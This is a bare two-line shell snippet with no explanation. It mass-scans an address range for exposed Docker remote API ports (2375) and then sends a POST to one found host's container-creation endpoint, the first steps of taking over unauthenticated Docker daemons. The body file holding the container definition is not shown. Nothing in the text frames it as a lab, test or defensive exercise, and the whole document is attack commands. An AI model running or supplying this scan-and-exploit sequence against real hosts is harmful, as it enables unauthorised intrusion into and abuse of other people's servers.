masscan 198.51.100.0/24 -p2375 --rate 10000 -oL found.txt
curl -X POST http://198.51.100.20:2375/containers/create -d @body.json
